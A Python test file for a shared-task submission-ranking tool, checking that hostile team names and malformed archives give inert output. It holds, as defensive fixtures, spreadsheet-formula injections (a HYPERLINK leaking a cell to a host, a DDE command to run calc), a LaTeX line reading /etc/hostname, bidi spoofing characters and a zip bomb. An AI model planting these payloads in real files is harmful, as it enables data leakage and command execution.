"""rank_submissions.py with hostile names and archives: every name from a participant and every
archive is untrusted. Each case gives clean output or one clear line, never a traceback."""

from __future__ import annotations

import csv
import doctest
import io
import json
import os
import re
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import ROOT
from test_rank_submissions import (DEV, codabench_bulk, codabench_member, compile_tables, overfull_points, read_table,
                                   setup)  # noqa: F401 (the fixture)

sys.path.insert(0, str(ROOT))
import rank_submissions  # noqa: E402
import ranking.codabench_export  # noqa: E402
import ranking.descriptions  # noqa: E402
import ranking.downloads  # noqa: E402
import ranking.names  # noqa: E402
import ranking.unpacking  # noqa: E402
from ranking.unpacking import MAX_MEMBER_RATIO  # noqa: E402

HOSTILE_TEAMS = {
    "480": '=HYPERLINK("http://example.com/?"&A1,"click")',
    "481": "@SUM(1+1)*cmd|' /C calc'!A0",
    "482": "x\r\\input{/etc/hostname} % \r^^5cinput{^^2fetc^^2fhostname}",
    "483": "evil\u202eexe.txt\x1b[31mred",
    "484": "x",
    "485": "x",
    "486": "x (2)",
    "487": "W" * 300,
    "488": "+1 -1 \t tab",
    "489": "名前 Müller Øre « » & $ # _ { } ~",
}


@pytest.mark.parametrize("module", [ranking.names, ranking.descriptions])
def test_docstring_examples(module):
    failures, _ = doctest.testmod(module, optionflags=doctest.NORMALIZE_WHITESPACE)
    assert failures == 0


@pytest.fixture(scope="module")
def hostile(setup, tmp_path_factory):  # noqa: F811
    """A Codabench download whose ten participants have hostile names (from a --teams CSV), plus
    a member that inflates 1000:1 and a member that is not a zip."""
    base = tmp_path_factory.mktemp("hostile")
    submissions = setup[1]
    bulk = base / "bulk.zip"
    with zipfile.ZipFile(bulk, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for identifier in HOSTILE_TEAMS:
            archive.write(submissions / ("random_%d.zip" % (1 + int(identifier) % 3)),
                          codabench_member(int(identifier), "owner%s" % identifier))
        # 20 MB of zeros: about 20 KB deflated
        archive.writestr(codabench_member(490, "bomber"), b"\0" * (20 * 1000 * 1000))
        archive.writestr(codabench_member(491, "notzip"), b"this is not a zip file\n")
        archive.writestr(codabench_member(492, "=cmd\u202e"), b"PK\x03\x04 truncated")
    teams = base / "teams.csv"
    with open(teams, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["submission", "team"])
        for identifier, team in HOSTILE_TEAMS.items():
            writer.writerow([identifier, team])
    out = base / "out"
    code = rank_submissions.main([str(bulk), "--ref", str(DEV), "--out", str(out), "--teams", str(teams),
                                  "--resamples", "100", "--quiet", "--no-kit-baselines"])
    assert code == 0
    return out


def every_output(out: Path):
    for name in sorted(os.listdir(out)):
        if name.endswith((".csv", ".md", ".tex", ".html", ".svg")):
            yield name, (out / name).read_text(encoding="utf-8")


def test_no_formula_in_any_csv_cell(hostile):
    for name, text in every_output(hostile):
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(text.split("\n", 1)[1])):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-[0-9.e+-]+", cell), (name, cell)
    rows = read_table(hostile / "t6_st1.csv")
    teams = {row["team"] for row in rows}
    assert "'" + '=HYPERLINK("http://example.com/?"&A1,"click")' in teams
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in teams


def test_no_control_or_bidi_character_in_any_output(hostile):
    for name, text in every_output(hostile):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text), name
        assert "\r" not in text, name
    md = (hostile / "results.md").read_text(encoding="utf-8")
    assert "\\\\u202e" in md  # shown escaped, visibly


def test_latex_injection_is_inert_and_the_tables_compile(hostile, tmp_path):
    tex = (hostile / "results.tex").read_text(encoding="utf-8")
    assert "\\input" not in tex and "^^" not in tex
    for line in tex.split("\n"):
        if line.startswith("%"):
            assert "owner" not in line and "HYPERLINK" not in line  # no participant's text in comments
    log = compile_tables(hostile / "results.tex", tmp_path)
    assert all(points <= 5 for points in overfull_points(log)), overfull_points(log)


def test_names_are_unique(hostile):
    rows = read_table(hostile / "t6_st1.csv")
    names = [row["name"] for row in rows]
    assert len(names) == len(set(names)) == len(HOSTILE_TEAMS)
    # two participants named "x" by --teams stay apart by their owner, and one named "x (2)"
    assert {"x (owner484)", "x (owner485)", "x (2)"} <= set(names)
    assert len({row["team"] for row in rows}) == len(HOSTILE_TEAMS) - 1


def test_hostile_archives_name_the_member(hostile):
    problems = {row["submission"]: row["problem"] for row in read_table(hostile / "problems.csv")}
    assert set(problems) == {"490", "491", "492"}
    assert "inflates" in problems["490"] and ("at most %d times" % MAX_MEMBER_RATIO) in problems["490"]
    for identifier in ("490", "491", "492"):
        assert "_PhaseId77_" in problems[identifier]  # the member's own name
        assert "/tmp" not in problems[identifier] and "rank-submissions-" not in problems[identifier]
    assert "not a zip file" in problems["491"]


def _one_line_exit(argv, capsys) -> str:
    with pytest.raises(SystemExit) as raised:
        rank_submissions.main(argv)
    message = str(raised.value.code)
    assert message.startswith("rank_submissions: ") and "\n" not in message and "Traceback" not in message
    return message


def test_missing_teams_file_is_one_line_before_any_scoring(setup, tmp_path, capsys):  # noqa: F811
    from ranking.names import shown
    message = _one_line_exit([str(setup[1]), "--ref", str(DEV), "--out", str(tmp_path / "o"), "--teams",
                              str(tmp_path / "missing.csv")], capsys)
    # (the path as the tools show a name: cut past 80 characters, as a deep temporary folder may be)
    assert "--teams %s:" % shown(str(tmp_path / "missing.csv")) in message and "No such file" in message
    assert "scoring" not in capsys.readouterr().err


def test_out_under_a_file_is_one_line_before_any_scoring(setup, tmp_path, capsys):  # noqa: F811
    (tmp_path / "file").write_text("x", encoding="utf-8")
    message = _one_line_exit([str(setup[1]), "--ref", str(DEV), "--out", str(tmp_path / "file" / "out")], capsys)
    assert "--out" in message
    assert "scoring" not in capsys.readouterr().err


def test_a_cp1252_teams_csv_is_read_with_a_warning(setup, tmp_path, capsys):  # noqa: F811
    teams = tmp_path / "teams.csv"
    teams.write_bytes("submission;x\nrandom_1,Müller – “Team”\n".replace(";", ",").encode("cp1252"))
    out = tmp_path / "out"
    assert rank_submissions.main([str(setup[1] / "random_1.zip"), "--ref", str(DEV), "--out", str(out),
                                  "--teams", str(teams), "--resamples", "10", "--quiet", "--no-kit-baselines"]) == 0
    err = capsys.readouterr().err
    assert "not UTF-8: line 2 read as Windows-1252 (cp1252), the others as UTF-8" in err and "Traceback" not in err
    assert read_table(out / "t6_st1.csv")[0]["team"] == "Müller – “Team”"


def test_a_teams_csv_partly_cp1252_shows_every_name_as_written(setup, tmp_path, capsys):  # noqa: F811
    """A file edited in two programs holds UTF-8 and Windows-1252 lines; each
    is read as written (the whole file read as cp1252 showed the UTF-8 names as 'Ã‰quipe CrÃ¨me')."""
    teams = tmp_path / "teams.csv"
    teams.write_bytes("submission,team\nrandom_1,Équipe Crème\n".encode("utf-8")
                      + "random_2,Müller – “Team”\n".encode("cp1252"))
    out = tmp_path / "out"
    assert rank_submissions.main([str(setup[1]), "--ref", str(DEV), "--out", str(out), "--teams", str(teams),
                                  "--resamples", "10", "--quiet", "--no-kit-baselines"]) == 0
    assert "line 3 read as Windows-1252 (cp1252), the others as UTF-8" in capsys.readouterr().err
    assert {"Müller – “Team”", "Équipe Crème"} <= {row["team"] for row in read_table(out / "t6_st1.csv")}


def test_a_teams_csv_with_a_bom(setup, tmp_path):  # noqa: F811
    teams = tmp_path / "teams.csv"
    teams.write_bytes("\ufeffsubmission,team\nrandom_1,Équipe\n".encode("utf-8"))
    out = tmp_path / "out"
    assert rank_submissions.main([str(setup[1] / "random_1.zip"), "--ref", str(DEV), "--out", str(out),
                                  "--teams", str(teams), "--resamples", "10", "--quiet", "--no-kit-baselines"]) == 0
    assert read_table(out / "t6_st1.csv")[0]["team"] == "Équipe"


# --- which submission is a team's row (no scoring needed) ---------------------------------------------

def _scored(identifier: int, owner: str, value=None, problem: str = ""):
    from ranking.entries import Entry
    from ranking.scoring import Scored

    scored = Scored(Entry(str(identifier), owner, "bulk.zip", member="m%d" % identifier, platform_id=str(identifier),
                          owner=owner, order=identifier))
    if value is not None:
        scored.scores["t6_st1"] = {"t6_st1_f1_micro": value}
    if problem:
        scored.problems.append(("t6_st1", problem))
    return scored


def test_selection_last_best_all_and_the_export():
    from ranking.selection import select

    # ids compared as numbers (a bulk name's date has no hour; 99 < 100), failures skipped
    runs = [_scored(99, "a_b", 0.5), _scored(100, "a_b", 0.4), _scored(101, "a_b", problem="refused"),
            _scored(7, "c", 0.4), _scored(8, "c", 0.4), _scored(9, "c")]
    primary = ("t6_st1", "t6_st1_f1_micro", True)
    ranked, skipped, failed = select(runs, "last", primary)
    assert [s.entry.submission for s in ranked] == ["100", "9"]
    assert [s.entry.submission for s, _ in skipped] == ["99", "7", "8"]
    assert [s.entry.submission for s in failed] == ["101"]
    ranked, _, _ = select(runs, "best", primary)  # a tie goes to the later; no score ranks below any
    assert [s.entry.submission for s in ranked] == ["99", "8"]
    ranked, _, _ = select(runs, "all", primary)
    assert len(ranked) == 5
    ranked, skipped, failed = select(runs, "last", primary, on_board={"a_b-99", "c-8", "a_b-101"})
    assert [s.entry.submission for s in ranked] == ["99", "8"] and len(skipped) == 3
    assert failed[0].problems[-1][1].startswith("on the platform's leaderboard")


# --- phases, exports and damaged members ------------------------------------------------------------

def test_an_export_of_every_phase_keeps_the_downloads_phase(setup, tmp_path):  # noqa: F811
    """Without ?phase=, Codabench exports every phase's board: the Development entries are not
    reported as missing from a Test download (PhaseId77)."""
    submissions = setup[1]
    bulk = tmp_path / "bulk.zip"
    with zipfile.ZipFile(bulk, "w") as archive:
        archive.write(submissions / "random_1.zip", codabench_member(480, "alice_x"))
        archive.write(submissions / "random_3.zip", codabench_member(483, "bob"))
    export = {"Results - Development(76)": {"alice_x-300": {}, "carol-301": {}},
              "Results - Test(77)": {"alice_x-480": {}, "bob-483": {}}}
    path = tmp_path / "results.json"
    path.write_text(json.dumps(export), encoding="utf-8")
    out = tmp_path / "out"
    assert rank_submissions.main([str(bulk), "--ref", str(DEV), "--out", str(out), "--resamples", "20",
                                  "--results", str(path), "--quiet", "--no-kit-baselines"]) == 0
    problems = (out / "problems.csv").read_text(encoding="utf-8")
    assert "alice_x-300" not in problems and "carol-301" not in problems
    assert sorted(row["submission"] for row in read_table(out / "t6_st1.csv")) == ["480", "483"]


def test_a_download_mixing_phases_or_an_export_of_another_phase_is_one_line(setup, tmp_path, capsys):  # noqa: F811
    submissions = setup[1]
    bulk = tmp_path / "bulk.zip"
    with zipfile.ZipFile(bulk, "w") as archive:
        archive.write(submissions / "random_1.zip", codabench_member(480, "alice_x"))
        archive.write(submissions / "random_3.zip", codabench_member(483, "bob").replace("PhaseId77", "PhaseId1"))
    message = _one_line_exit([str(bulk), "--ref", str(DEV), "--out", str(tmp_path / "out")], capsys)
    assert "mixes phases (PhaseId 1, 77)" in message
    single = tmp_path / "single.zip"
    with zipfile.ZipFile(single, "w") as archive:
        archive.write(submissions / "random_1.zip", codabench_member(480, "alice_x"))
    path = tmp_path / "results.json"
    path.write_text(json.dumps({"Results - Development(76)": {"alice_x-300": {}}}), encoding="utf-8")
    message = _one_line_exit([str(single), "--ref", str(DEV), "--out", str(tmp_path / "out"), "--results",
                              str(path)], capsys)
    assert "no board of the download's phase 77" in message and "results.json?phase=77" in message
    assert "scoring" not in capsys.readouterr().err


@pytest.mark.parametrize("content", ["{}", '{"Results - Test(77)": {}}', "Username,fact_sheet_answers\n", "[]"])
def test_an_export_without_entries_is_one_line(setup, tmp_path, capsys, content):  # noqa: F811
    path = tmp_path / "results.json"
    path.write_text(content, encoding="utf-8")
    message = _one_line_exit([str(setup[1]), "--ref", str(DEV), "--out", str(tmp_path / "out"), "--results",
                              str(path)], capsys)
    assert "no leaderboard entries" in message


def test_an_oversized_csv_in_a_zip_export_is_named(tmp_path, monkeypatch):
    monkeypatch.setattr(ranking.codabench_export, "MAX_EXPORT_MEMBER_BYTES", 100)
    path = tmp_path / "results.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("Results - Test(77).csv", "Username,fact_sheet_answers\nalice_x-480,\n")
        archive.writestr("Results - Development(76).csv", "Username,fact_sheet_answers\n" + "bob-1,\n" * 50)
    entries, warnings = ranking.codabench_export.read_results_export(str(path))
    assert [(e.owner, e.submission_id, e.phase) for e in entries] == [("alice_x", "480", "77")]
    assert len(warnings) == 1 and "Results - Development(76).csv skipped" in warnings[0]


def _corrupt_deflate(path: Path, name: str) -> None:
    """Flips bytes in the middle of member ``name``'s compressed data."""
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(name)
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode("utf-8")) + len(info.extra)
    for offset in range(start + 10, start + min(info.compress_size, 200) - 10):
        data[offset] ^= 0x5A
    path.write_bytes(bytes(data))


def test_a_damaged_deflate_stream_is_one_line_naming_the_member(setup, tmp_path):  # noqa: F811
    from staging import KitError

    submissions = setup[1]
    bulk = tmp_path / "bulk.zip"
    member = codabench_member(480, "alice_x")
    with zipfile.ZipFile(bulk, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(member, (submissions / "random_1.zip").read_bytes() * 3)
        archive.writestr("Team x - 1 method.txt", "method_name: " + "m" * 5000)
    _corrupt_deflate(bulk, member)
    _corrupt_deflate(bulk, "Team x - 1 method.txt")
    found = ranking.downloads.discover(str(bulk))
    assert any("Team x - 1 method.txt: cannot be read from the download" in note for note in found.notes)
    (entry,) = found.entries
    work = tmp_path / "work"
    work.mkdir()
    with pytest.raises(KitError) as raised:
        ranking.unpacking.stage(entry, str(work))
    message = str(raised.value)
    assert message.startswith(member + ": cannot be unpacked from the download") and "\n" not in message


def _nlu_only_yaml(tmp_path) -> Path:
    import yaml

    document = yaml.safe_load((ROOT / "competition.yaml").read_text(encoding="utf-8"))
    columns = document["leaderboard"]["columns"]
    document["leaderboard"]["columns"] = {key: column for key, column in columns.items() if key.startswith("nlu_")}
    for column in document["leaderboard"]["columns"].values():
        column.pop("selection_default", None)
    document["leaderboard"]["columns"]["nlu_score"]["selection_default"] = 1
    path = tmp_path / "competition.yaml"
    path.write_text(yaml.safe_dump(document), encoding="utf-8")
    return path


def test_select_best_takes_the_competitions_primary_column(setup, tmp_path, monkeypatch):  # noqa: F811
    """alice_x's 481 (random_2 without its nlu file) is her best on t6_st1, 480 (random_1) her only
    nlu score: an nlu-only competition's best is 480."""
    import ranking.labels

    assert ranking.labels.primary_column() == ("t6_st1", "t6_st1_f1_micro", True)
    monkeypatch.setattr(ranking.labels, "COMPETITION_YAML", str(_nlu_only_yaml(tmp_path)))
    assert ranking.labels.primary_column() == ("nlu", "nlu_score", True)
    folders = setup[2]
    bulk = tmp_path / "bulk.zip"
    with zipfile.ZipFile(bulk, "w") as archive:
        archive.write(setup[1] / "random_1.zip", codabench_member(480, "alice_x"))
        without_nlu = io.BytesIO()
        with zipfile.ZipFile(without_nlu, "w") as inner:
            for path in sorted(folders["random_2"].iterdir()):
                if not path.name.startswith("aicup2022_nlu"):
                    inner.write(path, path.name)
        archive.writestr(codabench_member(481, "alice_x"), without_nlu.getvalue())
    out = tmp_path / "best"
    assert rank_submissions.main([str(bulk), "--ref", str(DEV), "--out", str(out), "--resamples", "20",
                                  "--select", "best", "--quiet", "--no-kit-baselines"]) == 0
    assert [row["submission"] for row in read_table(out / "nlu.csv")] == ["480"]
    assert [row["submission"] for row in read_table(out / "not_ranked.csv")] == ["481"]


@pytest.mark.parametrize("values,fragment", [
    ({"overlapping_predictions": "merg"}, 'overlapping_predictions must be "error", "merge" or "keep"'),
    ({"overlaping_predictions": "merge"}, "unknown setting overlaping_predictions"),
    ({"max_file_bytes": -1}, "max_file_bytes must be a positive integer"),
])
def test_a_bad_settings_file_is_one_line_naming_it_before_any_scoring(setup, tmp_path, capsys, values,
                                                                      fragment):  # noqa: F811
    path = tmp_path / "my_settings.json"
    path.write_text(json.dumps(values), encoding="utf-8")
    message = _one_line_exit([str(setup[1]), "--ref", str(DEV), "--out", str(tmp_path / "out"), "--settings",
                              str(path)], capsys)
    from ranking.names import shown
    assert message.startswith("rank_submissions: settings %s: " % shown(str(path))) and fragment in message, message
    assert "phase-reference-" not in message and "scoring" not in capsys.readouterr().err


def test_a_fact_sheet_team_name_never_hides_the_owner(setup, tmp_path):  # noqa: F811
    """mallory's fact sheet claims the team name "bob", bob's own account: mallory's row says
    whose it is, and every CSV and the HTML name the owner."""
    submissions = setup[1]
    bulk = tmp_path / "bulk.zip"
    with zipfile.ZipFile(bulk, "w") as archive:
        archive.write(submissions / "random_1.zip", codabench_member(480, "mallory"))
        archive.write(submissions / "random_3.zip", codabench_member(483, "bob"))
        archive.write(submissions / "broken.zip", codabench_member(484, "bob"))
    path = tmp_path / "results.json"
    path.write_text(json.dumps({"Results - Test(77)": {
        "mallory-480": {"fact_sheet_answers": {"team_name": "bob", "system_name": "M"}},
        "bob-483": {"fact_sheet_answers": {"team_name": "Bob's team", "system_name": "B"}}}}), encoding="utf-8")
    out = tmp_path / "out"
    assert rank_submissions.main([str(bulk), "--ref", str(DEV), "--out", str(out), "--resamples", "20",
                                  "--results", str(path), "--quiet", "--no-kit-baselines"]) == 0
    rows = read_table(out / "t6_st1.csv")
    assert sorted((row["name"], row["team"], row["owner"]) for row in rows) == [
        ("Bob's team", "Bob's team", "bob"), ("bob (mallory)", "bob", "mallory")]
    # 484 is on no board (not re-scored, listed as not ranked): no fact sheet names it, its team is the account
    assert [(row["team"], row["owner"], row["submission"]) for row in read_table(out / "not_ranked.csv")
            if row["team"]] == [("bob", "bob", "484")]
    assert sorted((row["Team"], row["Owner"]) for row in read_table(out / "participants.csv")) == [
        ("Bob's team", "bob"), ("bob (mallory)", "mallory")]
    html = (out / "index.html").read_text(encoding="utf-8")
    assert "<th class=\"l\">Owner</th>" in html and "<td class=\"l\">mallory</td>" in html


def test_a_v15_team_named_like_a_user_is_its_own_participant(setup, tmp_path):  # noqa: F811
    """Codalab v1.5: "Team alice  - 5 submission.zip" is the team alice's, not the user
    alice's ("alice - 3 submission.zip"): both rows are ranked, each with its own method.txt."""
    submissions = setup[1]
    bulk = tmp_path / "Competition-ab12cd-12.zip"
    with zipfile.ZipFile(bulk, "w") as archive:
        archive.write(submissions / "random_1.zip", "alice - 3 submission.zip")
        archive.writestr("alice - 3 method.txt", "method_name: Rules\nmethod_description: the user's")
        archive.write(submissions / "random_2.zip", "Team alice  - 5 submission.zip")
        archive.writestr("Team alice  - 5 method.txt", "method_name: Transformer\nmethod_description: the team's")
    found = ranking.downloads.discover(str(bulk))
    assert [(e.submission, e.team, e.owner) for e in found.entries] == [("3", "alice", "alice"),
                                                                        ("5", "alice", "Team alice")]
    out = tmp_path / "out"
    assert rank_submissions.main([str(bulk), "--ref", str(DEV), "--out", str(out), "--resamples", "20",
                                  "--quiet", "--no-kit-baselines"]) == 0
    rows = read_table(out / "t6_st2.csv")
    assert sorted((r["owner"], r["system"]) for r in rows) == [("Team alice", "Transformer"), ("alice", "Rules")]
    participants = read_table(out / "participants.csv")
    assert sorted(row["Description"] for row in participants) == ["the team's", "the user's"]


def test_files_that_differ_in_the_case_of_zip_are_told_apart(setup, tmp_path):  # noqa: F811
    """``x.zip`` and ``x.ZIP`` are two rows, each naming its file."""
    import shutil
    folder = tmp_path / "subs"
    folder.mkdir()
    shutil.copyfile(setup[1] / "random_1.zip", folder / "x.zip")
    shutil.copyfile(setup[1] / "random_2.zip", folder / "x.ZIP")
    assert sorted(e.submission for e in ranking.downloads.discover(str(folder)).entries) == ["x.ZIP", "x.zip"]
    out = tmp_path / "out"
    assert rank_submissions.main([str(folder), "--ref", str(DEV), "--out", str(out), "--resamples", "10",
                                  "--quiet", "--no-kit-baselines"]) == 0
    assert sorted(row["submission"] for row in read_table(out / "t6_st1.csv")) == ["x.ZIP", "x.zip"]


def test_the_paper_s_own_words_and_baselines_read_right(setup, tmp_path):  # noqa: F811
    """The appendix captions are the tool's own words, never cut as a name is; a baseline named as
    one is not marked twice, another one is; a short name is never broken."""
    _, submissions, _, majority, _ = setup
    out = tmp_path / "out"
    assert rank_submissions.main([str(submissions), "--ref", str(DEV), "--out", str(out), "--resamples", "10",
                                  "--baseline", "Organisers' baseline=%s" % majority,
                                  "--baseline", "Majority=%s" % majority, "--quiet"]) == 0
    tex = (out / "results.tex").read_text(encoding="utf-8")
    md = (out / "results.md").read_text(encoding="utf-8")
    assert r"\label{tab:not-scored}" in tex and "characters)" not in tex  # broken.zip: its appendix, the caption whole
    assert "Organisers' baseline" in md and "Organisers' baseline (baseline)" not in md
    assert "Majority (baseline)" in md
    assert "Organisers' baseline \\textit{(baseline)}" not in tex and "Majority \\textit{(baseline)}" in tex


# --- a bulk name that reads two ways -----------------------------------------------------------------

IMPOSTOR = "alice_PhaseId7_2027-03-02_00-00_x"  # a user name holding the bulk pattern
ALICE_MEMBER = "12_alice_PhaseId7_2027-03-01_00-00_sub.zip"
TWO_WAYS = "13_%s_PhaseId7_2027-03-03_10-00_sub.zip" % IMPOSTOR  # alice's x_..._sub.zip, or the impostor's


def _two_owners_download(setup, folder: Path, manifest: bool = False) -> Path:
    """alice's submission 12 and the impostor's 13 (another file), as the browser's bulk zip or,
    with ``manifest``, as codabench.py download's folder."""
    from ranking.client_download import CLIENT_MANIFEST

    members = {}
    for name, seed in ((ALICE_MEMBER, "random_1"), (TWO_WAYS, "random_2")):
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w") as archive:
            archive.write(setup[2][seed] / "semeval2021_t6_st1.json", "semeval2021_t6_st1.json")
        members[name] = data.getvalue()
    if not manifest:
        bulk = folder / "bulk.zip"
        with zipfile.ZipFile(bulk, "w") as archive:
            for name, data in members.items():
                archive.writestr(name, data)
        return bulk
    folder.mkdir()
    for name, data in members.items():
        (folder / name).write_bytes(data)
    (folder / CLIENT_MANIFEST).write_text(json.dumps({"phase": 7, "files": {
        "12": {"name": ALICE_MEMBER, "owner": "alice", "phase": 7},
        "13": {"name": TWO_WAYS, "owner": IMPOSTOR, "phase": 7}}}), encoding="utf-8")
    return folder


def test_a_bulk_name_that_reads_two_ways_is_refused_in_one_line(setup, tmp_path, capsys):  # noqa: F811
    bulk = _two_owners_download(setup, tmp_path)
    message = _one_line_exit([str(bulk), "--ref", str(DEV), "--out", str(tmp_path / "out")], capsys)
    assert TWO_WAYS in message and "reads 2 ways" in message
    assert "of 'alice' with the file 'x_PhaseId7_2027-03-03_10-00_sub.zip'" in message
    assert "of '%s' with the file 'sub.zip'" % IMPOSTOR in message
    assert "codabench.py download" in message and "--teams (a row 13,<owner>)" in message
    assert "scoring" not in capsys.readouterr().err


def test_a_bulk_name_that_reads_two_ways_is_resolved_by_the_manifest_or_by_teams(setup, tmp_path):  # noqa: F811
    download = _two_owners_download(setup, tmp_path / "download", manifest=True)
    out = tmp_path / "out"
    assert rank_submissions.main([str(download), "--ref", str(DEV), "--out", str(out), "--resamples", "20",
                                  "--quiet", "--no-kit-baselines"]) == 0
    assert sorted((row["owner"], row["submission"]) for row in read_table(out / "t6_st1.csv")) == [
        ("alice", "12"), (IMPOSTOR, "13")]
    # The bulk zip with --teams naming the owner (the platform's submissions export names them all)
    bulk = _two_owners_download(setup, tmp_path)
    teams = tmp_path / "teams.csv"
    teams.write_text("Submission ID,Owner\n12,alice\n13,%s\n" % IMPOSTOR, encoding="utf-8")
    out = tmp_path / "out_teams"
    assert rank_submissions.main([str(bulk), "--ref", str(DEV), "--out", str(out), "--teams", str(teams),
                                  "--resamples", "20", "--quiet", "--no-kit-baselines"]) == 0
    assert sorted((row["owner"], row["submission"]) for row in read_table(out / "t6_st1.csv")) == [
        ("alice", "12"), (IMPOSTOR, "13")]
    # ... or naming alice: then both are hers, and her last one is her row
    teams.write_text("submission,team\n13,alice\n", encoding="utf-8")
    out = tmp_path / "out_alice"
    assert rank_submissions.main([str(bulk), "--ref", str(DEV), "--out", str(out), "--teams", str(teams),
                                  "--resamples", "20", "--quiet", "--no-kit-baselines"]) == 0
    assert [(row["owner"], row["submission"]) for row in read_table(out / "t6_st1.csv")] == [("alice", "13")]
